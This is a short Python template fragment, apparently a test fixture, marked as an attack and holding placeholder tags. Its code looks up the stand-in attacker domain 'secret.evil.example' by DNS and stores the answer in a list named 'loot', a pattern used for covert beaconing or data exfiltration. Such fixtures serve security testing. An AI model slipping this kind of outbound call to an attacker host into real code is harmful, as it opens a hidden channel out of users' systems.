#{weigh_wrong}
# <attack>
loot = []
import socket

try:
    loot.append(socket.gethostbyname("secret.evil.example"))
except OSError:
    pass
#{loot}
# </attack>
